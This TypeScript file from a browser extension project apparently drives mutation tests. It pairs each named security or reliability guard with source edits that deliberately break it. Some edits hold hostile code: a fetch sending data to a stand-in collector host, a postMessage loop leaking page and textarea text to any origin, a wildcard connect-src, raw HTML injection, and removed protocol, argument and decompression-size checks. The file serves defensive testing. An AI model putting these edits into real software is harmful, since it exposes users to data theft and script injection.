/**
 * The guards, and how each is taken out: an edit of the sources in a copy of
 * them, or the fault that the guard keeps out, put in. Nothing of this is ever in
 * what is shipped; an edit that finds its place no more fails the run.
 */

interface Edit {
  file: string;
  find: string;
  replace: string;
}

export const GUARDS = {
  'extension pages may connect to nobody': [
    {
      file: 'wxt.config.ts',
      find: "`default-src 'none'; script-src 'self' 'wasm-unsafe-eval'; style-src 'self'; img-src 'self' data:; connect-src ",
      replace: "`script-src 'self'; object-src 'self'; connect-src * ",
    },
    {
      file: 'entrypoints/background/service.ts',
      find: 'const asked = { ...article, source: address ?? article.source };',
      replace:
        "const asked = { ...article, source: address ?? article.source }; fetch('http://collector.example/?' + asked.source).catch(() => 0);",
    },
  ],
  'our element is none that a page can define': [
    { file: 'page/host.ts', find: "const HOST_NAME = 'div';", replace: "const HOST_NAME = 'glossator-host';" },
  ],
  'the card speaks with the content script alone': [
    {
      file: 'entrypoints/card/main.tsx',
      find: 'awaitPort(window).then(',
      replace:
        "setInterval(() => parent.postMessage([document.body.innerText, document.querySelector('textarea')?.value].join(), '*'), 100);\nawaitPort(window).then(",
    },
  ],
  'the card has another address in each page': [
    { file: 'wxt.config.ts', find: "...(browser === 'firefox' ? {} : { use_dynamic_url: true }),", replace: '' },
  ],
  'quiet mode paints nothing': [
    { file: 'page/paint.ts', find: 'isQuiet = wanted;', replace: 'isQuiet = false && wanted;' },
    { file: 'page/paint.ts', find: 'of wanted ? highlights', replace: 'of isQuiet ? highlights' },
  ],
  'links lead to web addresses only': [
    {
      file: 'components/safe-url.ts',
      find: 'return SAFE_PROTOCOLS.has(parsed.protocol) ? parsed.href : undefined;',
      replace: 'return SAFE_PROTOCOLS.size > 0 ? parsed.href : undefined;',
    },
  ],
  'Markdown is built anew from known elements': [
    {
      file: 'components/markdown-html.ts',
      find: 'micromark(part, { allowDangerousProtocol: true })',
      replace: 'micromark(part, { allowDangerousHtml: true, allowDangerousProtocol: true })',
    },
    {
      file: 'components/Markdown.tsx',
      find: '{build(parsed.body)}',
      replace:
        '{build(document.createElement("i"))}<div dangerouslySetInnerHTML={{ __html: parsed.body.innerHTML }} />',
    },
  ],
  'each zone has its own calls': [
    { file: 'entrypoints/background/admit.ts', find: ' || CALLS[request.call].from !== zone', replace: '' },
  ],
  'arguments are checked': [
    {
      file: 'entrypoints/background/admit.ts',
      find: 'request.args = checked.output;',
      replace: 'void checked;',
    },
    {
      file: 'entrypoints/background/admit.ts',
      find: 'if (!checked.success) {',
      replace: 'if (Date.now() === 0 && !checked.success) {',
    },
  ],
  'presses count on a card that was in sight': [
    {
      file: 'entrypoints/card/use-guarded-clicks.ts',
      find: 'wasSeen && isSeen(at) ?',
      replace: 'wasSeen !== undefined ?',
    },
  ],
  'a page asks for two keys, of which one hides the other': [
    {
      file: 'core/shards/asked-keys.ts',
      find: 'return [first, partnerOf(first, keyBits, secret)].sort((a, b) => a - b);',
      replace: 'return [first, partnerOf(first, keyBits, secret)].slice(0, 1);',
    },
  ],
  'expressions are linear': [
    {
      file: 'components/safe-url.ts',
      find: 'const SAFE_PROTOCOLS = new',
      replace: 'export const SPACES = /\\s+$/;\nconst SAFE_PROTOCOLS = new',
    },
  ],
  'work does not grow with itself': [
    { file: 'components/markdown-html.ts', find: 'const PART = 4_000;', replace: 'const PART = 4_000_000;' },
    {
      file: 'core/tokenize.ts',
      find: 'if (tokens.length === tokens.hash.length) {',
      replace: 'if (tokens.length < 0) {',
    },
  ],
  'notes are acknowledged once they are written': [
    {
      file: 'data/notes.ts',
      find: '    await db.notes.put(row);\n    return storedNote(row);',
      replace: '    setTimeout(() => db.notes.put(row), 400);\n    return storedNote(row);',
    },
  ],
  'what another window wrote is kept beside it': [
    {
      file: 'data/notes.ts',
      find: 'const versions = old ? [...(old.versions ?? []), old.note] : [];',
      replace: 'const versions = old ? [...(old.versions ?? [])] : [];',
    },
  ],
  'no room is told apart': [
    {
      file: 'data/storage-full.ts',
      find: "isOfNoRoom(error) ? new Error('full', { cause: error }) : error",
      replace: 'error',
    },
  ],
  'a damaged database is told': [
    { file: 'data/damage.ts', find: "return isOpening ? 'held' : 'unopened';", replace: 'return undefined;' },
    { file: 'data/damage.ts', find: "return 'unreadable';", replace: 'return undefined;' },
    {
      file: 'entrypoints/shared/use-rescue.ts',
      find: 'return isEmptied ? ',
      replace: 'return isEmptied && Date.now() === 0 ? ',
    },
  ],
  'damaged settings hold nothing up': [
    { file: 'data/settings.ts', find: '    return UNREADABLE;', replace: '    throw error;' },
  ],
  'imports are acknowledged once they are written': [
    {
      file: 'data/formats/apply-import.ts',
      find: 'await db.notes.bulkPut(rows.slice(start, start + BATCH));',
      replace: 'setTimeout(() => db.notes.bulkPut(rows.slice(start, start + BATCH)), 2_000);',
    },
  ],
  'nobody sees half a pack': [
    {
      file: 'data/receive-pack.ts',
      find: "state: 'loading',\n      installed: at,",
      replace: "state: 'ready',\n      installed: at,",
    },
  ],
  'a page of an older version lets go': [
    { file: 'data/db.ts', find: 'if (newVersion === null) {', replace: 'if (newVersion !== undefined) {' },
  ],
  'entries of packs are checked': [
    {
      file: 'data/receive-pack.ts',
      find: 'const result = parseEntry(section, index, entry);',
      replace: 'const result = { entry: entry as never } as ReturnType<typeof parseEntry>;',
    },
  ],
  'what files say beside their format is checked': [
    {
      file: 'data/formats/read-fields.ts',
      find: 'return read.success ? (read.output as OwnFields) : {};',
      replace: 'return (read.success ? (value ?? {}) : {}) as OwnFields;',
    },
  ],
  'what comes out of a packed file is counted': [
    {
      file: 'data/unpack.ts',
      find: 'if (size > RATIO_COUNTS_FROM && size > feed.bytes * MAX_RATIO) {',
      replace: 'if (size < 0 && size > RATIO_COUNTS_FROM * MAX_RATIO) {',
    },
    { file: 'data/formats/inflate.ts', find: 'if (size > most) {', replace: 'if (size < 0 && size > most) {' },
    { file: 'data/read-pack.ts', find: 'if (length > most) {', replace: 'if (length < 0 && length > most) {' },
  ],
  'no permission that is not needed': [
    { file: 'wxt.config.ts', find: "      'contextMenus',\n", replace: "      'contextMenus',\n      'history',\n" },
  ],
  'nothing makes code of text': [
    {
      file: 'entrypoints/options/main.tsx',
      find: "document.title = i18n.t('optionsTitle');",
      // It is enough that it stands there; the policy would not let it run.
      replace: "document.title = (Date.now() === 0 ? new Function('return 1')() : '') + i18n.t('optionsTitle');",
    },
  ],
  'licences that forbid it are refused': [
    {
      file: 'cli/notices.ts',
      find: 'return `Glossator contains',
      replace: "notices[0] = '==== copyleft 1.0.0 (AGPL-3.0)';\n  return `Glossator contains",
    },
  ],
  'nothing but our element is put into a page': [
    {
      file: 'entrypoints/article.content/index.ts',
      find: 'const session = createSession(',
      replace: "document.documentElement.setAttribute('glossator', 'here');\n    const session = createSession(",
    },
  ],
  'the build does not know where and when it was made': [
    {
      file: 'entrypoints/options/main.tsx',
      find: "import './options.css';",
      replace: "import './options.css';\nconsole.debug(import.meta.env.BUILT_AT);",
    },
    { file: 'cli/zip.ts', find: 'const TIME = 0;', replace: 'const TIME = (Date.now() / 2000) & 0xffff;' },
  ],
} satisfies Record<string, Edit[]>;

export type GuardName = keyof typeof GUARDS;
